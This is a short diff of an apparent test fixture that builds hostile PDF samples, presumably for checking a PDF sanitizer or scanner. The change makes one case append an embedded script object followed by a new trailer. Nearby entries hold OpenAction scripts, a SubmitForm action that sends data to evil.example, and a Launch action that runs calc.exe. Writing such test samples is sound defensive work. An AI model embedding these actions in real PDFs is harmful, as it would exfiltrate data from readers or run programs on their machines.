@@ -128,7 +128,10 @@ export const hostilePdfs: Record<string, Buffer> = {
   ),
   'a script in an earlier version': savedTwice(`/OpenAction${script}`, ''),
   'a script in a later version': savedTwice('', `/OpenAction${script}`),
-  'a script at the end of its pages': Buffer.concat([onePagePdf(), Buffer.from(`9 0 obj${script}endobj`)]),
+  'a script at the end of its pages': Buffer.concat([
+    onePagePdf(),
+    Buffer.from(`9 0 obj${script}endobj\nstartxref\n9\n%%EOF\n`),
+  ]),
   'a form to be sent': link('<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>'),
   'data to be imported': link('<</S/ImportData/F(a.fdf)>>'),
   'a program to be started': link('<</S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>'),
